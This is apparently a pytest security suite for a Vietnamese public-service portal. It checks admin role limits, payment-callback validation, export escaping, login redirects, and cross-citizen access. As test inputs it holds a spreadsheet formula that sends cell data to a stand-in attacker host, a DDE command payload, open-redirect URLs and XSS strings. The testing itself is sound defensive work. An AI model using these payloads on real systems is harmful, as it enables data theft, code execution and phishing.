"""Attacks on what issues 18–20 added: a quản trị đơn vị reaching accounts outside its
subtree (or its own), hostile signed-call headers, formulas smuggled into the accounts'
and agencies' exports, hostile ids in the form journey."""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from engine.core.models import Account, Dossier, RoleGrant
from engine.wiring import Platform
from tests.helpers import login

SQLITE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
SO = "000.05.00.H64"


def _roles(platform: Platform, username: str) -> set[str]:
    with platform.uow() as uow:
        account = uow.session.scalar(select(Account).where(Account.username == username))
        assert account is not None
        return {
            g.role for g in uow.session.scalars(select(RoleGrant).where(RoleGrant.account_id == account.id))
        }


# --- a quản trị đơn vị acts only on the accounts it manages, never on its own -----------


@SQLITE
def test_a_unit_admin_cannot_grant_a_role_to_an_officer_of_another_subtree(
    client: FlaskClient,
    platform: Platform,
) -> None:
    login(client, "quantri.soxaydung")
    before = _roles(platform, "motcua.minhxuan")
    page = client.post(
        "/quan-tri/tai-khoan/motcua.minhxuan/vai-tro", data={"agency": SO, "roles": ["lanh_dao"]}
    )
    assert page.status_code == 403
    api = client.put("/api/v1/officers/motcua.minhxuan/roles", json={"agency": SO, "role": "lanh_dao"})
    assert api.status_code == 403
    assert _roles(platform, "motcua.minhxuan") == before


@SQLITE
def test_a_unit_admin_cannot_grant_itself_a_role(client: FlaskClient, platform: Platform) -> None:
    login(client, "quantri.soxaydung")
    for response in (
        client.post(
            "/quan-tri/tai-khoan/quantri.soxaydung/vai-tro", data={"agency": SO, "roles": ["lanh_dao"]}
        ),
        client.put("/api/v1/officers/quantri.soxaydung/roles", json={"agency": SO, "role": "phe_duyet"}),
    ):
        assert response.status_code == 403
    assert "lanh_dao" not in _roles(platform, "quantri.soxaydung")
    assert "phe_duyet" not in _roles(platform, "quantri.soxaydung")


@SQLITE
def test_a_unit_admin_still_grants_roles_to_its_own_officers(
    client: FlaskClient,
    platform: Platform,
) -> None:
    login(client, "quantri.soxaydung")
    response = client.put(
        "/api/v1/officers/chuyenvien.soxaydung/roles", json={"agency": SO, "role": "lanh_dao"}
    )
    assert response.status_code == 200, response.json
    assert "lanh_dao" in _roles(platform, "chuyenvien.soxaydung")


@SQLITE
def test_a_unit_admin_cannot_revoke_a_role_of_an_officer_it_does_not_manage(
    app: Flask,
    client: FlaskClient,
    platform: Platform,
) -> None:
    admin = app.test_client()
    login(admin, "quantri")
    assert (
        admin.put(
            "/api/v1/officers/motcua.minhxuan/roles", json={"agency": SO, "role": "chuyen_vien"}
        ).status_code
        == 200
    )
    login(client, "quantri.soxaydung")
    assert client.delete(f"/api/v1/officers/motcua.minhxuan/roles/{SO}/chuyen_vien").status_code == 403
    assert (
        client.post(
            "/quan-tri/tai-khoan/motcua.minhxuan/thu-hoi", data={"agency": SO, "role": "chuyen_vien"}
        ).status_code
        == 403
    )
    assert _roles(platform, "motcua.minhxuan") == {"mot_cua", "chuyen_vien"}


# --- hostile signed-call headers: refused (403), never a 500 ----------------------------


@pytest.fixture
def paying(platform: Platform) -> Flask:
    """The app with a real payment gateway configured (no gateway needs to answer)."""
    from webapp import create_app

    return create_app(
        {
            "TESTING": True,
            "PLATFORM": platform,
            "SECRET_KEY": "test-secret",
            "DATABASE_URL": platform.database_url,
            "PUBLIC_URL": "http://motcua.localhost",
            "CONNECTORS": {
                "payment": {
                    "implementation": "real",
                    "pay_url": "http://127.0.0.1:9/pay",
                    "settlement_url": "http://127.0.0.1:9/settlement",
                    "merchant": "MC01",
                    "secret": "khoa-bi-mat-thu-nghiem-2027",
                }
            },
        }
    )


@SQLITE
@pytest.mark.parametrize("stamp", ["9" * 400, "²", "1" + "0" * 30, "١٧٠٠٠٠٠٠٠٠"])
def test_a_callback_with_a_hostile_timestamp_is_refused_not_a_500(paying: Flask, stamp: str) -> None:
    response = paying.test_client().post(
        "/api/v1/payments/callback",
        data=b'{"reference": "TT1", "amount": 1, "transaction": "x", "result": "success"}',
        headers={"X-Motcua-Timestamp": stamp, "X-Motcua-Signature": "sha256=" + "0" * 64},
        content_type="application/json",
    )
    assert response.status_code == 403, response.data[:300]


# --- formulas in the accounts' and agencies' exports (CSV injection) --------------------

FORMULA = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'


def _cells(content: bytes, fmt: str) -> list[tuple[str, str]]:
    """Every (value, openpyxl data type) of an export; CSV cells are all text."""
    if fmt == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [(cell, "s") for row in rows for cell in row]
    book = load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    return [(str(c.value), str(c.data_type)) for row in sheet.iter_rows() for c in row if c.value]


@SQLITE
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_never_hand_a_spreadsheet_a_formula(client: FlaskClient, fmt: str) -> None:
    login(client, "quantri")
    made = client.post(
        "/api/v1/officers",
        json={
            "username": "congthuc.soxaydung",
            "full_name": FORMULA,
            "email": "ct@tuyenquang.example",
            "phone": "+84 912 000 111",
            "grants": [{"agency": SO, "role": "chuyen_vien"}],
        },
    )
    assert made.status_code == 201, made.json
    added = client.post(
        "/api/v1/agencies",
        json={"code": "000.05.99.H64", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "kind": "unit", "parent": SO},
    )
    assert added.status_code == 201, added.json
    for path in (f"/quan-tri/tai-khoan/xuat.{fmt}", f"/quan-tri/co-quan/xuat.{fmt}"):
        response = client.get(path)
        assert response.status_code == 200
        cells = _cells(response.data, fmt)
        assert all(kind != "f" for _, kind in cells), path
        assert not [v for v, _ in cells if v.startswith(("=", "+", "-", "@"))], path
    exported = _cells(client.get(f"/quan-tri/tai-khoan/xuat.{fmt}").data, fmt)
    assert ("'" + FORMULA, "s") in exported  # shown as typed


def test_a_reimported_export_reads_the_text_back() -> None:
    from engine.agencies.sheets import read_table, safe_cell

    line = ",".join(f'"{safe_cell(v)}"' for v in ("=1+1", "-5", "Sở Xây dựng", "'quoted"))
    assert read_table(("a,b,c,d\n" + line.replace('"', "", 0) + "\n").encode(), "x.csv")[1] == [
        "=1+1",
        "-5",
        "Sở Xây dựng",
        "'quoted",
    ]


# --- the form journey: a hostile stored-paper id is a refusal, never a 500 --------------


@SQLITE
@pytest.mark.parametrize("value", ["²", "9" * 30, "9" * 5000, "१२"])
def test_a_hostile_stored_paper_id_is_refused_not_a_500(app: Flask, value: str) -> None:
    from tests.functional.test_citizen_area import PAGE, citizen_client, draft_key, flat, post_form
    from tests.helpers import permit_data

    citizen = citizen_client(app)
    response = post_form(citizen, PAGE, {**flat(permit_data()), "_stored.1": value, "_action": "save"})
    assert response.status_code == 200, response.status_code  # the draft saved, shown again
    assert draft_key(response.data)  # what was typed is kept; the odd id is simply not used


@SQLITE
@pytest.mark.parametrize("name", ["ho_ten.²", "don_vi_thiet_ke.².ten", "don_vi_thiet_ke." + "9" * 5000])
def test_a_hostile_field_name_is_not_a_500(app: Flask, name: str) -> None:
    from tests.functional.test_citizen_area import PAGE, citizen_client, draft_key, flat, post_form
    from tests.helpers import permit_data

    citizen = citizen_client(app)
    response = post_form(citizen, PAGE, {**flat(permit_data()), name: "x", "_action": "save"})
    assert response.status_code == 200, response.status_code
    assert draft_key(response.data)


@SQLITE
@pytest.mark.parametrize("slot", ["²", "9" * 5000])
def test_a_file_posted_for_a_hostile_paper_slot_is_not_a_500(app: Flask, slot: str) -> None:
    from tests.functional.test_citizen_area import PAGE, citizen_client, draft_key, flat, post_form
    from tests.helpers import permit_data

    citizen = citizen_client(app)
    upload = (io.BytesIO(b"%PDF-1.4\n%%EOF\n"), "giay.pdf")
    response = post_form(citizen, PAGE, {**flat(permit_data()), f"_file.{slot}": upload, "_action": "save"})
    assert response.status_code in (200, 422), response.status_code
    assert "Giấy tờ không có trong danh mục" in response.text or draft_key(response.data)


# --- another citizen's dossier: its documents, its withdrawal, its draft ------------------


@SQLITE
def test_a_citizen_reaches_nothing_of_anothers_dossier_by_its_code(app: Flask, platform: Platform) -> None:
    from tests.functional.test_citizen_area import (
        PAGE,
        citizen_client,
        draft_key,
        flat,
        post_form,
        submit_on_page,
    )
    from tests.helpers import PERMIT, page_login, permit_data, token

    owner = citizen_client(app)
    code = submit_on_page(owner)
    saved = post_form(owner, PAGE, {**flat(permit_data()), "_action": "save"})
    key = draft_key(saved.data)
    for mine in (f"/ca-nhan/ho-so/{code}", f"/thu-tuc/{PERMIT}/buoc/1?nhap={key}"):
        assert owner.get(mine).status_code == 200, mine  # the paths probed below are real
    with platform.uow() as uow:
        status = uow.session.scalar(select(Dossier.status).where(Dossier.code == code))
    other = app.test_client()
    person = {
        "ho_ten": "Lê Thị Hoa",
        "so_dinh_danh": "008190004321",
        "dien_thoai": "0987654321",
        "email": "hoa@example.vn",
        "mat_khau": "Hoa-tuyen-quang-26",
        "nhap_lai": "Hoa-tuyen-quang-26",
        "dong_y": "true",
    }
    assert post_form(other, "/dang-ky", person).status_code == 303
    page_login(other, "008190004321", "Hoa-tuyen-quang-26")
    for path in (
        f"/ca-nhan/ho-so/{code}",
        f"/ca-nhan/ho-so/{code}/van-ban/receipt.pdf",
        f"/ca-nhan/ho-so/{code}/rut",
        f"/ca-nhan/ho-so/{code}/bo-sung",
        f"/thu-tuc/{PERMIT}/buoc/1?nhap={key}",
        f"/thu-tuc/{PERMIT}/kiem-tra?nhap={key}",
    ):
        response = other.get(path)
        assert response.status_code in (403, 404), (path, response.status_code)
        assert "008090001234" not in response.text, path
    csrf = token(other.get("/ca-nhan").data)
    withdraw = other.post(f"/ca-nhan/ho-so/{code}/rut", data={"csrf_token": csrf, "reason": "Không cần nữa"})
    assert withdraw.status_code in (403, 404)
    with platform.uow() as uow:
        assert uow.session.scalar(select(Dossier.status).where(Dossier.code == code)) == status


# --- VNeID: `next` never leaves the site; hostile callback parameters are refusals ------


@SQLITE
@pytest.mark.parametrize(
    "target",
    [
        "https://ke-gian.example/",
        "//ke-gian.example/x",
        "/\\ke-gian.example",
        "/\t/ke-gian.example",
        "/%09/ke-gian.example",
    ],
)
def test_vneid_login_never_sends_the_citizen_to_another_site(platform: Platform, target: str) -> None:
    from tests.functional.test_vneid_login import CALLBACK, _consent, _return
    from tests.simulators.oidc import OidcProvider
    from webapp import create_app

    provider = OidcProvider(redirect_uris=[CALLBACK]).start()
    try:
        app = create_app(
            {
                "TESTING": True,
                "PLATFORM": platform,
                "SECRET_KEY": "test-secret",
                "DATABASE_URL": platform.database_url,
                "PUBLIC_URL": "http://motcua.localhost",
                "CONNECTORS": {"vneid": provider.settings()},
            }
        )
        client = app.test_client()
        started = client.get("/dang-nhap/vneid", query_string={"next": target})
        assert started.status_code == 303
        landed = _return(client, _consent(provider, str(started.headers["Location"])))
        where = str(landed.headers["Location"])
        assert landed.status_code == 303 and urlsplit(where).netloc == "", where
        assert where.startswith("/") and not where.startswith("//") and "\\" not in where
        assert where.isprintable(), where  # no tab a browser would drop
        for query in (
            {"state": "x" * 100_000, "code": "y"},
            {"state": "\x00", "code": "\x00"},
            {"error": "\x00" * 500},
        ):
            hostile = client.get("/dang-nhap/vneid/ve", query_string=query)
            assert hostile.status_code in (303, 400), hostile.status_code
    finally:
        provider.stop()


@SQLITE
@pytest.mark.parametrize(
    "body",
    [
        b'{"reference": "TT1", "amount": 1' + b"0" * 30 + b', "transaction": "x", "result": "success"}',
        b'{"reference": "\\u0000", "amount": 75000, "transaction": "\\u0000", "result": "success"}',
        b'{"reference": ["TT1"], "amount": 75000, "transaction": {"a": 1}, "result": "success"}',
        b'{"reference": "TT1", "amount": 75000.5, "result": "success"}',
        b'{"reference": "TT1", "amount": ' + b"9" * 5000 + b', "result": "success"}',
        b"\xff\xfe not json",
        b"[]",
    ],
)
def test_a_signed_callback_with_hostile_content_is_refused_not_a_500(
    paying: Flask, clock: Any, body: bytes
) -> None:
    from integrations.signing import sign

    headers = sign("khoa-bi-mat-thu-nghiem-2027", body, clock.now())
    response = paying.test_client().post(
        "/api/v1/payments/callback", data=body, headers=headers, content_type="application/json"
    )
    assert response.status_code in (400, 404, 409), (response.status_code, response.data[:300])
    assert "error" in (response.json or {})


# --- the officers' API and pages: hostile dates and types are refusals, not 500s ----------


@SQLITE
@pytest.mark.parametrize(
    "grant",
    [
        {"agency": SO, "role": "lanh_dao", "valid_from": "0001-01-01T00:00:00"},
        {"agency": SO, "role": "lanh_dao", "valid_until": "9999-12-31T23:00:00-12:00"},
        {"agency": SO, "role": "lanh_dao", "valid_until": ["2027-01-01"]},
        {"agency": ["x"], "role": {"a": 1}},
        {"agency": SO, "role": "lanh_dao\x00"},
    ],
)
def test_a_hostile_grant_through_the_api_is_refused_not_a_500(
    client: FlaskClient, grant: dict[str, Any]
) -> None:
    login(client, "quantri")
    response = client.put("/api/v1/officers/chuyenvien.soxaydung/roles", json=grant)
    assert response.status_code in (200, 400, 404, 422), (response.status_code, response.json)
    assert client.get("/api/v1/officers/chuyenvien.soxaydung").status_code == 200
    assert client.get("/quan-tri/tai-khoan/xuat.csv").status_code == 200


@SQLITE
@pytest.mark.parametrize(
    "dates", [{"valid_until": "9999-12-31"}, {"valid_from": "0001-01-01"}, {"valid_from": "2027-13-45"}]
)
def test_a_hostile_date_on_the_accounts_page_is_refused_not_a_500(
    client: FlaskClient, dates: dict[str, str]
) -> None:
    login(client, "quantri")
    response = client.post(
        "/quan-tri/tai-khoan/chuyenvien.soxaydung/vai-tro",
        data={"agency": SO, "roles": ["lanh_dao"], **dates},
    )
    assert response.status_code in (303, 422), response.status_code
    assert client.get("/quan-tri/tai-khoan/chuyenvien.soxaydung").status_code == 200
    assert client.get("/quan-tri/tai-khoan/xuat.xlsx").status_code == 200


@SQLITE
def test_an_import_row_dated_9999_is_named_not_a_500(client: FlaskClient, platform: Platform) -> None:
    login(client, "quantri")
    sheet = (
        "Tên đăng nhập,Họ và tên,Thư điện tử,Mã cơ quan,Vai trò,Hiệu lực đến\n"
        f"a.soxaydung,Nguyễn A,a@tuyenquang.example,{SO},chuyen_vien,31/12/9999\n"
    )
    response = client.post(
        "/quan-tri/tai-khoan/nhap", data={"file": (io.BytesIO(sheet.encode()), "tai-khoan.csv")}
    )
    assert response.status_code == 422
    assert "Ngày hiệu lực phải trong các năm 2000–2199." in response.text
    with platform.uow() as uow:
        assert uow.session.scalar(select(Account.id).where(Account.username == "a.soxaydung")) is None


# --- organisations: an authorisation's period ---------------------------------------------


@SQLITE
@pytest.mark.parametrize("until", ["9999-12-31T23:00:00-12:00", "0001-01-01T00:00:00", ["x"], "2027-02-30"])
def test_a_hostile_authorisation_period_is_refused_not_a_500(
    client: FlaskClient, platform: Platform, until: Any
) -> None:
    from tests.functional.test_organisations import COMPANY, TAX, _colleague

    login(client, "congdan")
    assert client.post("/api/v1/organisations", json=COMPANY).status_code == 201
    _colleague(platform, client)
    added = client.post(
        f"/api/v1/organisations/{TAX}/members",
        json={"username": "dongnghiep", "authorisation": "Giấy ủy quyền 1", "valid_until": until},
    )
    assert added.status_code in (201, 400, 422), (added.status_code, added.json)
    assert client.get(f"/api/v1/organisations/{TAX}").status_code == 200


# --- NUL bytes, huge strings and wrong types on the new JSON routes -----------------------

HOSTILE = ["\x00", "a" * 100_000, 12, None, ["x"], {"a": "b"}, True, "a\ud800"]


@SQLITE
@pytest.mark.parametrize("value", HOSTILE, ids=lambda v: type(v).__name__ + str(len(str(v))))
def test_hostile_values_on_the_new_api_routes_are_never_a_500(client: FlaskClient, value: Any) -> None:
    login(client, "quantri")
    calls = [
        ("post", "/api/v1/agencies", {"code": value, "name": value, "kind": "unit", "parent": SO}),
        (
            "post",
            "/api/v1/agencies",
            {"code": "000.05.98.H64", "name": "Phòng X", "kind": value, "parent": value},
        ),
        ("put", f"/api/v1/agencies/{SO}", {"code": SO, "name": value, "address": value, "phone": value}),
        ("post", f"/api/v1/agencies/{SO}/close", {"reason": value}),
        (
            "post",
            "/api/v1/officers",
            {"username": value, "full_name": value, "email": value, "phone": value, "grants": value},
        ),
        ("post", "/api/v1/officers", {"username": "x.soxaydung", "full_name": "X", "grants": [value]}),
        ("post", "/api/v1/officers/chuyenvien.soxaydung/lock", {"reason": value}),
        (
            "post",
            "/api/v1/officers",
            {
                "username": "y.soxaydung",
                "full_name": "Nguyễn Y",
                "email": f"{value}@tuyenquang.example" if isinstance(value, str) else value,
                "grants": [{"agency": SO, "role": "chuyen_vien"}],
            },
        ),
        (
            "post",
            "/api/v1/officers/chuyenvien.soxaydung/transfer",
            {"from": value, "to": value, "roles": value},
        ),
        ("post", "/api/v1/organisations", {"tax_code": value, "name": value, "password": value}),
    ]
    for method, path, body in calls:
        raw = json.dumps(body)  # ASCII escapes: a lone surrogate arrives as \ud800
        response = getattr(client, method)(path, data=raw, content_type="application/json")
        assert response.status_code < 500, (path, body, response.status_code, response.data[:300])


# --- the form builder: a designer's text is shown, never run ------------------------------


@SQLITE
def test_the_form_builder_escapes_a_designers_text(app: Flask) -> None:
    from tests.helpers import MINH_XUAN, PERMIT

    designer = app.test_client()
    login(designer, "thietke.minhxuan")
    base = f"/quan-tri/thu-tuc/{MINH_XUAN}/{PERMIT}/1/bieu-mau/phe_duyet.schema.json"
    model = designer.get(f"{base}/mo-hinh").json["model"]
    evil = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
    model["fields"].append({"name": "ghi_chu_xss", "label": evil, "kind": "text", "help": evil})
    model["fields"].append({"name": 'x" onfocus="alert(3)', "label": "Tên lạ", "kind": "text"})
    built = designer.post("/quan-tri/dung-bieu-mau", json={"model": model})
    assert built.status_code in (200, 422), built.status_code
    html = str((built.json or {}).get("html") or "")
    assert "<script>" not in html and "<img" not in html and 'onfocus="alert' not in html
    model["fields"].pop()
    built = designer.post("/quan-tri/dung-bieu-mau", json={"model": model})
    assert built.status_code == 200 and "&lt;script&gt;" in built.json["html"]


# --- the accounts' import: a broken or oversized workbook is named, never a 500 -----------


def _workbook(sheet_xml: bytes | None = None, rows: int = 2) -> bytes:
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Tên đăng nhập", "Họ và tên", "Thư điện tử", "Mã cơ quan", "Vai trò"])
    for number in range(rows - 1):
        sheet.append([f"u{number}.soxaydung", "Nguyễn A", f"u{number}@tuyenquang.example", SO, "chuyen_vien"])
    plain = io.BytesIO()
    book.save(plain)
    if sheet_xml is None:
        return plain.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            target.writestr(item, data)
    return out.getvalue()


@SQLITE
@pytest.mark.parametrize(
    "content",
    [
        _workbook(
            b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x'
        ),
        _workbook(rows=5003),
    ],
    ids=["broken-sheet", "too-many-rows"],
)
def test_a_broken_or_oversized_workbook_is_named_not_a_500(client: FlaskClient, content: bytes) -> None:
    login(client, "quantri")
    response = client.post("/quan-tri/tai-khoan/nhap", data={"file": (io.BytesIO(content), "tai-khoan.xlsx")})
    assert response.status_code == 422, response.status_code
    assert "Không đọc được tệp XLSX." in response.text or "Tệp có quá 5000 dòng." in response.text


# --- numbers typed on citizen and officer pages: "²" or 5,000 digits is not a 500 --------


@SQLITE
@pytest.mark.parametrize("number", ["²", "9" * 5000])
def test_a_hostile_number_on_the_rating_and_fee_forms_is_not_a_500(app: Flask, number: str) -> None:
    from tests.functional.test_citizen_area import citizen_client, officer, submit_on_page
    from tests.helpers import inbox, token

    citizen = citizen_client(app)
    code = submit_on_page(citizen)
    csrf = token(citizen.get(f"/ca-nhan/ho-so/{code}").data)
    rated = citizen.post(f"/ca-nhan/ho-so/{code}/danh-gia", data={"csrf_token": csrf, "level": number})
    assert rated.status_code in (303, 409), rated.status_code
    desk = officer(app, "motcua.minhxuan")
    task = next(t for t in inbox(desk) if t["dossier"] == code)
    page = desk.get(f"/can-bo/cong-viec/{task['id']}")
    assert page.status_code == 200
    asked = desk.post(
        f"/can-bo/cong-viec/{task['id']}/yeu-cau-nop-phi",
        data={"csrf_token": token(page.data), "amount": number, "description": "Lệ phí"},
    )
    assert asked.status_code == 303, asked.status_code
    cash = desk.post(
        f"/can-bo/tiep-nhan/{code}/thu-phi", data={"csrf_token": token(page.data), "amount": number}
    )
    assert cash.status_code < 500, cash.status_code
